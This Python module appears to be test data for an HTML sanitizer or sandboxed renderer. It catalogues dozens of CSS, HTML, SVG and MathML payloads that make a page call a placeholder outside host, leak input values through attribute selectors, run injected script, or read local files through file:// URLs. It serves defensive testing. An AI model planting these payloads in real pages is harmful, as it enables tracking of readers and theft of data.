"""Requests that would tell somebody that the page is looked at, or read a file."""

_CSS = "<style>{css}</style><p id=p class=a title=secret>text</p><ul><li>x</ul><input value=secret>"
# As rules of a sheet.
RULES = {
    "import": "@import '{out}/i';", "import by url": "@import url({out}/i);",
    "import for a medium": "@import url('{out}/i') screen and (min-width:1px);",
    "import in a layer": "@import '{out}/i' layer(x) supports(display:grid);",
    "import in capitals": "@IMPORT URL({out}/i);", "import escaped": "@\\69mport '{out}/i';",
    "import in an import": "@import 'data:text/css,@import%20url({out}/i);';",
    "background": "p{background:url({out}/b)}", "background of many": "p{background:url(x),url('{out}/b')}",
    "escaped url": "p{background:u\\72l({out}/e)}", "src": "p{background:src('{out}/s')}",
    "image": "p{background:image('{out}/i')}", "image set": "p{background:image-set('{out}/1' 1x,url({out}/2) 2x)}",
    "cross fade": "p{background:-webkit-cross-fade(url({out}/a),url({out}/b),50%)}",
    "border": "p{border:9px solid;border-image:url({out}/b) 9}", "bullet": "li{list-style:url({out}/l)}",
    "cursor": "html{cursor:url({out}/c),auto}", "content": "p::before{content:url({out}/c)}",
    "mask": "p{mask:url({out}/m)}", "old mask": "p{-webkit-mask-box-image:url({out}/m)}",
    "clip": "p{clip-path:url({out}/c#x)}", "filter": "p{filter:url({out}/f#x)}",
    "backdrop": "p{backdrop-filter:url({out}/f#x)}", "shape": "p{float:left;shape-outside:url({out}/s)}",
    "reflection": "p{-webkit-box-reflect:below 0 url({out}/r)}", "path": "p{offset-path:url({out}/p#x)}",
    "marker": "p{marker:url({out}/m#x)}", "fill": "p{fill:url({out}/f#x)}",
    "font": "@font-face{font-family:f;src:url({out}/f)}p{font-family:f}",
    "font by ranges": "@font-face{font-family:f;src:url({out}/a);unicode-range:U+74}p{font-family:f}",
    "font of many": "@font-face{font-family:f;src:local(x),url({out}/a) format('woff2')}p{font-family:f}",
    "variable": "p{--u:url({out}/v);background:var(--u)}",
    "property": "@property --u{syntax:'<url>';inherits:true;initial-value:url({out}/p)}p{background:var(--u)}",
    "attribute": "p{background:attr(data-x type(<url>),url({out}/a))}",
    "value of a field": "input[value^=s]{background:url({out}/s)}", "visited": "a:visited{background:url({out}/v)}",
    "medium": "@media (min-width:1px){p{background:url({out}/m)}}", "print": "@media print{p{background:url({out}/m)}}",
    "container": "body{container-type:size}@container (min-width:1px){p{background:url({out}/c)}}",
    "supports": "@supports (display:grid){p{background:url({out}/s)}}", "has": "body:has(p){background:url({out}/h)}",
    "counter": "@counter-style c{system:cyclic;symbols:url({out}/c)}li{list-style:c}",
    "page": "@page{background:url({out}/p)}", "scrollbar": "::-webkit-scrollbar{background:url({out}/s);width:9px}",
    "frames": "@keyframes k{from{background:url({out}/1)}to{background:url({out}/2)}}p{animation:k 1s}",
    "nesting": "body{& p{background:url({out}/n)}}", "scope": "@scope (body){p{background:url({out}/s)}}",
    "first line": "p::first-line{background:url({out}/f)}", "selection": "::selection{background:url({out}/s)}",
    "namespace": "@namespace url({out}/n);p{color:blue}", "charset": "@charset '{out}';@import '{out}/c';",
    "broken": "p{background:url({out}/b", "comment that never ends": "p{background:url({out}/c)}/*",
    "XBL": "p{-moz-binding:url({out}/x#x);behavior:url({out}/x)}",
    "expression": "p{width:expression({run})}",
}  # fmt: skip

ELEMENTS = {
    "image": "<img src='{out}/i'>", "image of many": "<img srcset='{out}/1 1x,{out}/2 2x' sizes=100vw>",
    "lazy image": "<img loading=lazy src='{out}/i'>", "lazy image below": "<p style='height:9999px'><img loading=lazy src='{out}/i'>",
    "image by another name": "<image src='{out}/i'>", "picture": "<picture><source srcset='{out}/s'><img src='data:,'></picture>",
    "input": "<input type=image src='{out}/i'>", "video": "<video src='{out}/v' poster='{out}/p' autoplay preload=auto></video>",
    "sources": "<video autoplay><source src='{out}/s'><track default src='{out}/t'></video>",
    "audio": "<audio src='{out}/a' autoplay></audio>", "sound": "<bgsound src='{out}/b'>",
    "object": "<object data='{out}/o' codebase='{out}/' classid='{out}/c'></object>", "embed": "<embed src='{out}/e'>",
    "applet": "<applet codebase='{out}/' code=a archive='{out}/a.jar'></applet>", "iframe": "<iframe src='{out}/f'></iframe>",
    "lazy iframe": "<iframe loading=lazy src='{out}/f'></iframe>", "frameset": "<frameset><frame src='{out}/f'></frameset>",
    "portal": "<portal src='{out}/p'></portal>", "fenced frame": "<fencedframe src='{out}/f'></fencedframe>",
    "webview": "<webview src='{out}/w'></webview>", "layer": "<layer src='{out}/l'></layer><ilayer src='{out}/i'></ilayer>",
    "XML": "<xml src='{out}/x'></xml>", "old background": "<body background='{out}/b'>",
    "background of a table": "<table background='{out}/t'><tr background='{out}/r'><td background='{out}/d'>x</table>",
    "ping": "<a autofocus href='#x' ping='{out}/p'>x</a>", "attribution": "<img attributionsrc='{out}/a' src='data:,'>",
    "topics": "<iframe browsingtopics src='{out}/b'></iframe>", "shared storage": "<img sharedstoragewritable src='{out}/s'>",
    "base": "<base href='{out}/'><img src=i><link rel=stylesheet href=s>", "old manifest": "<html manifest='{out}/m'>",
    "policy that reports": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none';report-uri {out}/r\"><img src=x>",
    "policy in place of ours": "<meta http-equiv=Content-Security-Policy content='default-src *'><img src='{out}/i'>",
    "cookie": "<meta http-equiv=Set-Cookie content='a=b'><img src='{out}/i'>",
    "client hints": "<meta http-equiv=Accept-CH content='DPR'><meta http-equiv=Delegate-CH content='dpr {out}'><img src='{out}/i'>",
    "DNS by meta": "<meta http-equiv=x-dns-prefetch-control content=on><a href='http://leak.example/'>x</a>",
    "noscript": "<noscript><img src='{out}/n'><link rel=stylesheet href='{out}/s'></noscript>",
    "style in a noscript": "<noscript><style>@import '{out}/i';</style></noscript>",
    "shadow": "<div><template shadowrootmode=open><img src='{out}/s'><style>@import '{out}/i';:host{background:url({out}/h)}</style></template></div>",
    "style attribute": "<p style='background:url({out}/s);list-style:url({out}/l)'>x",
    "style in a style": "<style>&lt;/style>&lt;img src={out}/x></style>", "transform": "<?xml-stylesheet href='{out}/x' type='text/xsl'?><p>x",
    "icon": "<menu icon='{out}/m'><command icon='{out}/c'></menu>", "key": "<keygen challenge='{out}' form=x>",
    "SVG image": "<svg><image href='{out}/i'></image><image xlink:href='{out}/x'></image></svg>",
    "SVG use": "<svg><use href='{out}/u.svg#a'></use></svg>", "SVG filter": "<svg><filter id=f><feImage href='{out}/f'></feImage></filter><rect width=9 height=9 filter='url(#f)'></rect></svg>",
    "SVG attributes": "<svg><rect width=9 height=9 fill='url({out}/f#a)' mask='url({out}/m#a)' clip-path='url({out}/c#a)' stroke='url({out}/s#a)' filter='url({out}/i#a)'></rect></svg>",
    "SVG markers": "<svg><path d='M0 0L9 9' marker-start='url({out}/m#a)' marker-end='url({out}/e#a)'></path></svg>",
    "SVG gradient": "<svg><linearGradient id=g href='{out}/g#a'></linearGradient><rect width=9 height=9 fill='url(#g)'></rect></svg>",
    "SVG pattern": "<svg><pattern id=g href='{out}/g#a'></pattern><rect width=9 height=9 fill='url(#g)'></rect></svg>",
    "SVG text": "<svg><text><textPath href='{out}/t#a'>x</textPath><tref xlink:href='{out}/r#a'></tref></text></svg>",
    "SVG font": "<svg><font-face><font-face-src><font-face-uri href='{out}/f'></font-face-uri></font-face-src></font-face></svg>",
    "SVG style": "<svg><style>@import '{out}/i';rect{fill:url({out}/f)}</style><rect width=9 height=9></rect></svg>",
    "SVG path": "<svg><circle r=9><animateMotion dur=1s><mpath href='{out}/p#a'></mpath></animateMotion></circle></svg>",
    "SVG frames": "<svg><foreignObject width=99 height=99><iframe src='{out}/f'></iframe></foreignObject></svg>",
    "SVG cursor": "<svg><cursor id=c href='{out}/c'></cursor><rect style='cursor:url(#c)'></rect></svg>",
    "SVG set": "<svg><image><set attributeName=href to='{out}/s'></set></image></svg>",
    "SVG as a picture": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{out}/i'/><style>@import '{out}/s';</style><script>{run}</script></svg>\">",
    "MathML": "<math><mglyph src='{out}/g'></mglyph><mi href='{out}/h' xlink:href='{out}/x'>x</mi></math>",
    "MathML action": "<math><maction actiontype='statusline#{out}' xlink:href='{out}/a'><mi>x</mi></maction></math>",
    "MathML annotation": "<math><semantics><annotation-xml encoding='text/html'><img src='{out}/a' onerror=\"{run}\"></annotation-xml></semantics></math>",
    "MathML background": "<math background='{out}/b'><mtext><img src='{out}/i'></mtext></math>",
}  # fmt: skip

LINKS = [
    "stylesheet", "alternate stylesheet", "icon", "shortcut icon", "apple-touch-icon", "mask-icon",
    "manifest", "prefetch", "prerender", "preconnect", "dns-prefetch", "modulepreload", "import", "search",
    "pingback", "next", "subresource", "compression-dictionary", "expect", "facilitated-payment",
]  # fmt: skip
PRELOADED = ["style", "image", "font", "script", "fetch", "document", "track", "video", "worker"]
FILES = {
    "image": "<img src='{at}'>", "iframe": "<iframe src='{at}'></iframe>", "object": "<object data='{at}'></object>",
    "embed": "<embed src='{at}'>", "link": "<link rel=stylesheet href='{at}'>", "script": "<script src='{at}'></script>",
    "sheet": "<style>@import '{at}';p{background:url('{at}')}@font-face{font-family:f;src:url('{at}')}p{font-family:f}</style><p>x",
    "video": "<video src='{at}' poster='{at}'><track default src='{at}'></video>",
    "SVG": "<svg><image href='{at}'></image><use href='{at}#x'></use><filter id=f><feImage href='{at}'></feImage></filter><rect filter='url(#f)'></rect></svg>",
    "transform": "<?xml-stylesheet href='{at}' type='text/xsl'?><p>x",
}  # fmt: skip
AT = [
    "file://{file}",
    "file://localhost{file}",
    "FILE:{file}",
    "view-source:file://{file}",
    "filesystem:file://{file}",
]

PAGES = (
    {f"rule of {name}": _CSS.replace("{css}", css) for name, css in RULES.items()}
    | {f"request of {name}": html for name, html in ELEMENTS.items()}
    | {f"link to {rel}": f"<link rel='{rel}' href='{{out}}/l'><p>x" for rel in LINKS}
    | {
        f"preloaded {what}": f"<link rel=preload as={what} href='{{out}}/{what}' crossorigin><p>x"
        for what in PRELOADED
    }
    | {
        f"file in {name}": html.replace("{at}", AT[at % len(AT)])
        for at, (name, html) in enumerate(FILES.items())
    }
)
